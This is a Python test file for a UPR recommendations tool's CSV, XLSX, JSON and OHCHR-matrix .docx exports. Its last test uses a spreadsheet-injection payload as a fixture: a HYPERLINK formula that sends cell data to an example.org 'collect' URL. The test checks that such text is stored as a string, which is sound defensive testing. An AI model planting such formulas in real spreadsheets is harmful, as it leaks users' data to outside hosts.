"""Exports (issue 3, item 6): CSV, XLSX, JSON per State and for the corpus, and the
OHCHR matrix .docx; counts equal the raw sources; reproducible bytes."""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import docx
import openpyxl
from conftest import ROOT, TODAY, run_upr
from sources import counts_of_rows, expected_counts, ohchr_rows, read_export_csv

from upr import exports, followup, recommendations
from upr.config import settings
from upr.content import Content

FIXTURE = ROOT / "tests" / "fixtures" / "followup"


def fixture(tmp_path: Path, files: dict[str, str] | None = None):
    import shutil
    root = tmp_path / "repo"
    shutil.copytree(FIXTURE, root)
    for rel, text in (files or {}).items():
        target = root / "states" / "followup" / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    s = settings(root, TODAY)
    content = Content(settings=s)
    corpus, p1 = recommendations.load(s, content)
    content.kinds["recommendations"] = corpus
    fu, p2 = followup.load(s, content)
    assert not p1 + p2
    return corpus, fu.public


def assessment(date: str, status: str, body: str, recs=("SVN-48-140.7",)) -> str:
    lines = "".join(f"  - {r}\n" for r in recs)
    return (f'---\nrecommendations:\n{lines}status: {status}\ndate: "{date}"\nassessed_by: svn-coalition\n'
            f"sources:\n  - A/HRC/59/15/Add.1\n---\n\n{body}\n")


def test_csv_has_every_column_and_the_current_assessment(tmp_path):
    corpus, fu = fixture(tmp_path, {
        "svn/2025-10-01-a.md": assessment("2025-10-01", "not implemented", "Nothing yet."),
        "svn/2026-05-01-b.md": assessment("2026-05-01", "partially implemented", "A bill."),
    })
    raw = exports.to_csv(corpus.by_state["SVN"], fu)
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0]) == list(recommendations.COLUMNS) + list(exports.EXTRA_COLUMNS)
    assert len(rows) == 7
    row = next(r for r in rows if r["id"] == "SVN-48-140.7")
    assert row["recommending_states"] == "MDV;PRT"
    assert (row["assessment_status"], row["assessment_date"], row["assessments"]) == \
        ("partially implemented", "2026-05-01", "2")
    # the paragraph stays a string: 140.10 is not 140.1
    assert {r["paragraph"] for r in rows} >= {"140.1", "140.10"}


def test_json_keeps_lists_and_the_whole_history(tmp_path):
    corpus, fu = fixture(tmp_path, {
        "svn/2025-10-01-a.md": assessment("2025-10-01", "not implemented", "Nothing yet."),
        "svn/2026-05-01-b.md": assessment("2026-05-01", "implemented", "Done."),
    })
    data = json.loads(exports.to_json(corpus.by_state["SVN"], fu))["recommendations"]
    rec = next(r for r in data if r["id"] == "SVN-48-140.7")
    assert rec["recommending_states"] == ["MDV", "PRT"] and rec["session"] == 48 and rec["cycle"] == 4
    assert [(a["date"], a["status"]) for a in rec["assessments"]] == [
        ("2026-05-01", "implemented"), ("2025-10-01", "not implemented")]
    assert next(r for r in data if r["id"] == "SVN-20-u82adf64b")["action_category"] == 5


def test_xlsx_rows_and_types(tmp_path):
    corpus, fu = fixture(tmp_path)
    raw = exports.to_xlsx(corpus.by_state["SVN"], fu, "SVN")
    ws = openpyxl.load_workbook(io.BytesIO(raw), read_only=True)["SVN"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == exports.HEADER
    assert len(rows) == 8
    by_id = {r[0]: r for r in rows[1:]}
    assert by_id["SVN-48-140.10"][3] == 48 and by_id["SVN-48-140.10"][4] == "140.10"
    assert by_id["SVN-20-u82adf64b"][8] == 5


def test_exports_are_reproducible_bytes(tmp_path):
    corpus, fu = fixture(tmp_path)
    recs = corpus.by_state["SVN"]
    assert exports.to_xlsx(recs, fu) == exports.to_xlsx(recs, fu)
    # openpyxl stamps the time of saving into docProps/core.xml: it must be fixed
    import zipfile
    for raw in (exports.to_xlsx(recs, fu), exports.matrix_docx(recs[:2], fu, "Slovenia", 4)):
        core = zipfile.ZipFile(io.BytesIO(raw)).read("docProps/core.xml").decode()
        assert re.findall(r"<dcterms:(?:created|modified)[^>]*>([^<]*)<", core) == ["2000-01-01T00:00:00Z"] * 2
    cycle4 = [r for r in recs if r.cycle == 4]
    assert exports.matrix_docx(cycle4, fu, "Slovenia", 4) == exports.matrix_docx(cycle4, fu, "Slovenia", 4)


def test_matrix_docx_has_the_ohchr_columns_and_ngo_assessments(tmp_path):
    corpus, fu = fixture(tmp_path, {
        "svn/2025-10-01-a.md": assessment("2025-10-01", "not implemented", "Nothing yet."),
        "svn/2026-05-01-b.md": assessment("2026-05-01", "partially implemented", "A bill was tabled."),
    })
    recs = [r for r in corpus.by_state["SVN"] if r.cycle == 4]
    names = {"MDV": "Maldives", "PRT": "Portugal"}
    d = docx.Document(io.BytesIO(exports.matrix_docx(recs, fu, "Slovenia", 4, lambda c: names.get(c, c))))
    table = d.tables[0]
    assert tuple(c.text for c in table.rows[0].cells) == exports.MATRIX_HEADER
    theme_rows = [r for r in table.rows if r.cells[0].text.startswith("Theme:")]
    assert theme_rows[0].cells[0].text == "Theme: Ratification of & accession to international instruments"
    rec_rows = [r for r in table.rows[1:] if not r.cells[0].text.startswith("Theme:")]
    assert len(rec_rows) == 4
    row = next(r for r in rec_rows if r.cells[0].text.startswith("140.7 "))
    assert "(Maldives) (Portugal)" in row.cells[0].text
    assert "Source of position: A/HRC/59/15/Add.1" in row.cells[0].text
    assert row.cells[1].text == "Supported"
    fourth = row.cells[3].text.splitlines()
    assert fourth[0].startswith("Partially implemented (2026-05-01, svn-coalition): A bill was tabled.")
    assert fourth[1].startswith("Not implemented (2025-10-01, svn-coalition)")
    empty = next(r for r in rec_rows if r.cells[0].text.startswith("140.1 "))
    assert empty.cells[3].text == ""  # left for the group to fill in


def test_upr_export_command_writes_a_matrix(tmp_path, site_root):
    out = tmp_path / "svn4.docx"
    env = {"UPR_ROOT": str(site_root)}
    result = run_upr("export", "matrix", "--state", "svn", "--cycle", "4", "--out", str(out), env=env)
    assert result.returncode == 0, result.stderr
    table = docx.Document(str(out)).tables[0]
    rec_rows = [r for r in table.rows[1:] if not r.cells[0].text.startswith("Theme:")]
    assert len(rec_rows) == len(ohchr_rows()[48]) == 254
    filled = [r for r in rec_rows if r.cells[3].text]
    assert len(filled) == 8  # the example assessments cover SVN-48-140.7 to 140.14
    bad = run_upr("export", "matrix", "--state", "SVN", "--cycle", "7", "--out", str(out), env=env)
    assert bad.returncode == 2 and "SVN has no recommendations in cycle 7; cycles with data: 1, 2, 3, 4" in bad.stderr


def test_site_exports_equal_the_sources(built_site):
    folder = built_site / "exports" / "recommendations"
    expected = expected_counts()
    rows = read_export_csv(folder / "all.csv")
    assert counts_of_rows((r["id"], r["response"]) for r in rows) == expected
    per_state = []
    for path in sorted(folder.glob("???.csv")):
        if path.name == "all.csv":
            continue
        per_state += [(r["id"], r["response"]) for r in read_export_csv(path)]
    assert counts_of_rows(per_state) == expected
    data = json.loads((folder / "all.json").read_text(encoding="utf-8"))["recommendations"]
    assert counts_of_rows((r["id"], r["response"]) for r in data) == expected
    ws = openpyxl.load_workbook(folder / "svn.xlsx", read_only=True).active
    svn = counts_of_rows((r[0], r[7]) for r in list(ws.iter_rows(values_only=True))[1:])
    assert svn == {k: v for k, v in expected.items() if k[0] == "SVN"}
    ws = openpyxl.load_workbook(folder / "all.xlsx", read_only=True).active
    assert sum(1 for _ in ws.iter_rows()) == sum(expected.values()) + 1


def test_xlsx_text_that_looks_like_a_formula_stays_a_string():
    """Case 38: a text starting with '=' (imported or contributed) is a string cell, never a formula."""
    formula = '=HYPERLINK("https://example.org/collect?d="&A1,"Open the evidence folder")'
    rec = recommendations.Recommendation
    recs = [rec("KEN-49-1.1", "KEN", 4, 49, "1.1", formula, ["FRA"], issues=["+ Law adopted", "@KenyaUPRCoalition"]),
            rec("KEN-49-1.2", "KEN", 4, 49, "1.2", "- Two county plans", ["FRA"])]
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(recs, followup.FollowUp()))).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [sheet.cell(row=r, column=6).value for r in (2, 3)] == [formula, "- Two county plans"]
    assert sheet.cell(row=2, column=10).value == "+ Law adopted;@KenyaUPRCoalition"
